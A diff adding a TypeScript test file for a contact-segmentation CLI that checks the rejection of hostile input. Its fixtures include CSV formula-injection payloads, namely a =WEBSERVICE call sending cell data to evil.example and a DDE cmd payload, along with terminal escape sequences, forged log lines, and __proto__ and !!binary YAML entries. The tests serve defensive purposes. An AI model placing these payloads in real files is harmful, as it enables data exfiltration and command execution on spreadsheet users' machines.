@@ -1,0 +1,253 @@
+/**
+ * Hostile data and definitions (issue 12): no formula through a "valid" email, no identifier where
+ * it does not belong, messages that cannot be forged.
+ */
+import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { runCli } from "./helpers/run-cli.js";
+
+let work: string;
+beforeAll(async () => {
+  work = await mkdtemp(join(tmpdir(), "audience-hostile-"));
+});
+afterAll(async () => {
+  await rm(work, { recursive: true, force: true });
+});
+
+let n = 0;
+/** A shop folder with these contacts, orders and segments; returns its config path. */
+async function shop(contacts: string[], segments: string, orders?: string[]): Promise<string> {
+  const dir = join(work, `shop${n++}`);
+  await rm(dir, { recursive: true, force: true });
+  await import("node:fs/promises").then((fs) => fs.mkdir(dir));
+  await writeFile(join(dir, "contacts.csv"), contacts.join("\n") + "\n");
+  await writeFile(
+    join(dir, "orders.csv"),
+    (orders ?? ["order_id,customer_id,created_at,total", "1,c1,2026-06-01 10:00:00,10.00"]).join(
+      "\n",
+    ) + "\n",
+  );
+  await writeFile(join(dir, "segments.yaml"), segments);
+  await writeFile(
+    join(dir, "audience.yaml"),
+    "contacts: contacts.csv\norders: orders.csv\nsegments: segments.yaml\nas_of: 2026-06-30\ndefault_country: FR\n",
+  );
+  return join(dir, "audience.yaml");
+}
+
+const HEADER = "customer_id,email,phone,first_name,email_consent,sms_consent";
+
+describe("no formula through a valid-looking email", () => {
+  it("=WEBSERVICE(…)@x.com and a DDE payload are invalid emails, never written", async () => {
+    const config = await shop(
+      [
+        HEADER,
+        'c1,"=WEBSERVICE(""http://evil.example/""&A1)@x.com",,Ann,yes,no',
+        "c2,=cmd|'/C calc'!A0@x.com,,Bob,yes,no",
+        "c3,ok@example.com,,Cid,yes,no",
+      ],
+      "segments:\n  all:\n    where: known_contact\n    channel: email\n",
+    );
+    const out = join(work, `out${n}`);
+    const run = await runCli(["build", "--config", config, "--out", out]);
+    expect(run.code).toBe(0);
+    expect(run.stderr).toContain("2 × invalid email left out");
+    expect(await readFile(join(out, "all.csv"), "utf8")).toBe(
+      "customer_id,email,phone,first_name,last_name\r\nc3,ok@example.com,,Cid,\r\n",
+    );
+  });
+
+  it("the same address in NFC and NFD is one person", async () => {
+    const config = await shop(
+      [
+        HEADER,
+        "c1,\u00e9lo\u00efse@exemple.fr,,A,yes,no",
+        "c2,e\u0301loi\u0308se@exemple.fr,,B,yes,no",
+      ],
+      "segments:\n  all:\n    where: known_contact\n    channel: email\n",
+    );
+    const out = join(work, `out${n}`);
+    expect((await runCli(["build", "--config", config, "--out", out, "-q"])).code).toBe(0);
+    const rows = (await readFile(join(out, "all.csv"), "utf8")).split("\r\n").filter(Boolean);
+    expect(rows).toEqual([
+      "customer_id,email,phone,first_name,last_name",
+      "c1,\u00e9lo\u00efse@exemple.fr,,A,",
+    ]);
+  });
+});
+
+describe("no identifier where it does not belong", () => {
+  const contacts = [
+    HEADER,
+    "c1,a@example.com,06 39 98 00 01,Ann,yes,no",
+    "c2,b@example.com,06 39 98 00 02,Bob,yes,yes",
+  ];
+
+  it("an email segment writes the phone column only for members who agreed to SMS; validate warns", async () => {
+    const config = await shop(
+      contacts,
+      "segments:\n  mail:\n    where: known_contact\n    channel: email\n    columns: [phone]\n",
+    );
+    const out = join(work, `out${n}`);
+    expect((await runCli(["build", "--config", config, "--out", out, "-q"])).code).toBe(0);
+    expect(await readFile(join(out, "mail.csv"), "utf8")).toBe(
+      "customer_id,email,phone,first_name,last_name,phone\r\n" +
+        "c1,a@example.com,,Ann,,\r\n" +
+        "c2,b@example.com,,Bob,,'+33639980002\r\n",
+    );
+    const validate = await runCli(["validate", "--config", config]);
+    expect(validate.stdout + validate.stderr).toContain(
+      "columns: phone in a email segment is written only for members who agreed to SMS",
+    );
+  });
+
+  it("--hash with a profile that has no hashed form is an error, nothing written", async () => {
+    const config = await shop(contacts, "segments:\n  mail:\n    where: known_contact\n");
+    const out = join(work, `out${n}`);
+    const run = await runCli(["build", "--config", config, "--out", out, "--hash", "-q"]);
+    expect([run.code, run.stdout, run.stderr]).toEqual([
+      2,
+      "",
+      'error --hash: segment "mail" is written with the generic profile, which has no hashed form\n' +
+        "  hint: hashed profiles: meta, google-ads (--format meta or --format google-ads)\n",
+    ]);
+  });
+
+  it("a hashed file never carries a clear identifier; the manifest records what was hashed", async () => {
+    const config = await shop(
+      contacts,
+      "segments:\n  mail:\n    where: known_contact\n    columns: [email]\n  plain:\n    where: known_contact\n",
+    );
+    const out = join(work, `out${n}`);
+    const run = await runCli([
+      "build",
+      "--config",
+      config,
+      "--out",
+      out,
+      "--hash",
+      "--format",
+      "meta",
+      "-q",
+    ]);
+    expect([run.code, run.stderr]).toEqual([
+      1,
+      'error --hash: segment "mail" lists email in columns: a hashed file never carries an identifier in clear\n' +
+        "  hint: remove these columns from the segment (the profile's own columns carry them, hashed)\n",
+    ]);
+    const ok = await runCli([
+      "build",
+      "--config",
+      config,
+      "--out",
+      out,
+      "--hash",
+      "--format",
+      "meta",
+      "--only",
+      "plain",
+      "-q",
+    ]);
+    expect(ok.code).toBe(0);
+    const manifest = JSON.parse(await readFile(join(out, "manifest.json"), "utf8")) as {
+      segments: { id: string; hashed: boolean }[];
+    };
+    expect(manifest.segments.map((s) => [s.id, s.hashed])).toEqual([["plain", true]]);
+    expect(await readFile(join(out, "plain.csv"), "utf8")).not.toContain("@example.com");
+  });
+});
+
+describe("messages that cannot be forged", () => {
+  it("control characters and escape sequences from the data are shown escaped on stderr", async () => {
+    const config = await shop(
+      [HEADER, "c1,a@example.com,,Ann,yes,no"],
+      "segments:\n  all:\n    where: known_contact\n",
+      [
+        "order_id,customer_id,created_at,total",
+        "1,c1,2026-06-01 10:00:00,\u001b[31mred\u0007",
+        '2,c1,2026-06-01 10:00:00,"12\nerror fake line"',
+      ],
+    );
+    const run = await runCli(["count", "--config", config, "-q"]);
+    expect(run.code).toBe(0);
+    expect(run.stderr).toContain("invalid number in total (\\x1b[31mred\\x07)");
+    expect(run.stderr).toContain("invalid number in total (12\\nerror fake line)");
+    // eslint-disable-next-line no-control-regex -- no raw control character may reach the terminal
+    expect(run.stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
+    expect(run.stderr.split("\n").filter((l) => l.startsWith("error"))).toEqual([]);
+  });
+
+  it("__proto__ and constructor keys are unknown keys; !!binary and other tags are named", async () => {
+    const config = await shop(
+      [HEADER],
+      "segments:\n  a:\n    where: known_contact\n    __proto__: {channel: sms}\n    constructor: 1\n" +
+        "  b:\n    where: !!binary aGVsbG8=\n  c:\n    where: !foo known_contact\n",
+    );
+    const run = await runCli(["validate", "--config", config]);
+    expect(run.code).toBe(1);
+    const lines = (run.stdout + run.stderr).split("\n").filter((l) => /: (error|warning) /.test(l));
+    expect(lines.map((l) => l.replace(/^.*segments\.yaml:/, ""))).toEqual([
+      '4:5: error UNKNOWN_KEY: unknown key "segments.a.__proto__"',
+      '5:5: error UNKNOWN_KEY: unknown key "segments.a.constructor"',
+      '7:21: error YAML_TAG: "segments.b.where" has the YAML tag !!binary: audience reads plain values only',
+      "9:12: warning YAML_WARNING: Unresolved tag: !foo",
+      '9:17: error YAML_TAG: "segments.c.where" has the YAML tag !foo: audience reads plain values only',
+    ]);
+  });
+});
+
+describe("deterministic whatever the row order", () => {
+  it("shuffling the contacts, the orders and the lines of each order gives byte-identical files", async () => {
+    const contacts = [
+      HEADER,
+      "c1,a@example.com,06 39 98 00 01,Ann,yes,yes",
+      "c2,b@example.com,06 39 98 00 02,Bob,yes,no",
+      "c3,c@example.com,,Cid,no,no",
+    ];
+    // Same-day orders and multi-line orders: the cases where file order used to decide.
+    const orders: string[][] = [
+      [
+        "9,c1,2026-06-01 10:00:00,paid,10,Sérum,Soin",
+        "9,c1,2026-06-01 10:00:00,paid,10,Baume,Soin",
+      ],
+      ["10,c1,2026-06-01 09:00:00,paid,5,Crème,Soin"],
+      ["11,c1,2026-05-01 09:00:00,paid,7,Huile,Corps"],
+      [
+        "20,c2,2026-06-10 10:00:00,paid,8,Savon,Corps",
+        "20,c2,2026-06-10 10:00:00,paid,8,Savon,Bain",
+      ],
+      ["21,c2,2026-06-10 11:00:00,paid,9,Lait,Corps"],
+      ["30,c3,2026-04-01 10:00:00,paid,3,Gel,Bain"],
+    ];
+    const segments =
+      "segments:\n  all:\n    where: orders_count >= 1\n    channel: none\n" +
+      "    columns: [last_product, first_order_date, last_order_date, orders_count, total_spent]\n";
+    const header = "order_id,customer_id,created_at,status,total,product,category";
+    const files = async (c: string[], o: string[][]) => {
+      const config = await shop(c, segments, [header, ...o.flat()]);
+      const out = join(work, `det${n}`);
+      const run = await runCli(["build", "--config", config, "--out", out, "-q"]);
+      expect([run.code, run.stderr]).toEqual([0, ""]);
+      return readFile(join(out, "all.csv"), "utf8");
+    };
+    const reference = await files(contacts, orders);
+    expect(reference).toContain(
+      "c1,a@example.com,+33639980001,Ann,,Crème,2026-05-01,2026-06-01,3,22",
+    );
+    const fc = await import("fast-check");
+    await fc.assert(
+      fc.asyncProperty(
+        fc.shuffledSubarray(contacts.slice(1), { minLength: 3, maxLength: 3 }),
+        fc.shuffledSubarray(orders, { minLength: orders.length, maxLength: orders.length }),
+        fc.array(fc.boolean(), { minLength: orders.length, maxLength: orders.length }),
+        async (c, o, flip) => {
+          const lines = o.map((order, i) => (flip[i] ? [...order].reverse() : order));
+          expect(await files([HEADER, ...c], lines)).toBe(reference);
+        },
+      ),
+      { numRuns: 8, seed: 12 },
+    );
+  }, 120_000);
+});
